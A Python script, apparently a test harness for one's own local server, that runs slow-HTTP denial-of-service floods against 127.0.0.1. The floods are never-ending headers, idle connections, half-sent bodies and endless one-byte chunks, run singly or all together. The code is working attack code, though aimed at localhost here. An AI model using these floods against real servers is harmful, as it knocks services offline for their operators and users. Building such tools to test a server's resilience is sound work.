"""Attacks a server until its standard input ends:  python floods.py PORT KIND"""

from __future__ import annotations

import select
import socket
import sys
import threading
import time
from collections.abc import Callable

PATH = b"POST /v1/completions HTTP/1.1\r\nHost: localhost\r\n"


def _connect(port: int) -> socket.socket | None:
    try:
        made = socket.create_connection(("127.0.0.1", port), timeout=0.5)
    except OSError:
        return None
    made.setblocking(False)
    return made


def _send(one: socket.socket, data: bytes) -> bool:
    """Whether the connection still takes data."""
    try:
        one.send(data)
    except BlockingIOError:
        return True
    except OSError:
        return False
    return True


def _hold(port: int, count: int, first: bytes, again: bytes) -> None:
    """Keep ``count`` connections open.  Each sends ``first``, and ``again`` every half second."""
    held: list[socket.socket] = []
    while not _told_to_end(0.5):
        held = [one for one in held if not again or _send(one, again)]
        for _ in range(count - len(held)):
            one = _connect(port)
            if one is not None and _send(one, first):
                held.append(one)


def headers(port: int) -> None:
    """600 requests whose headers never end."""
    _hold(port, 600, PATH, b"X: y\r\n")


def idle(port: int) -> None:
    """1100 connections without a byte."""
    _hold(port, 1100, b"", b"")


def bodies(port: int) -> None:
    """400 bodies of 1 MB, of which half is sent."""
    length, half = 1_000_000, b" " * 500_000
    _hold(port, 400, PATH + b"Content-Length: %d\r\n\r\n" % length + half, b" ")


def chunks(port: int) -> None:
    """A body of 300,000 chunks of one byte, again and again."""
    body = PATH + b"Transfer-Encoding: chunked\r\n\r\n" + b"1\r\n \r\n" * 300_000
    while not _told_to_end(0):
        one = _connect(port)
        if one is None:
            continue
        with one:
            one.setblocking(True)
            one.settimeout(5)
            try:
                one.sendall(body)
                one.recv(100)
            except OSError:
                time.sleep(0.01)


def together(port: int) -> None:
    """All of them at once."""
    kinds = [threading.Thread(target=kind, args=(port,)) for kind in (headers, idle, bodies, chunks)]
    for kind in kinds:
        kind.start()
    for kind in kinds:
        kind.join()


KINDS: dict[str, Callable[[int], None]] = {kind.__name__: kind for kind in (headers, idle, bodies, chunks, together)}


def _told_to_end(wait_s: float) -> bool:
    return bool(select.select([sys.stdin], [], [], wait_s)[0])


if __name__ == "__main__":
    KINDS[sys.argv[2]](int(sys.argv[1]))
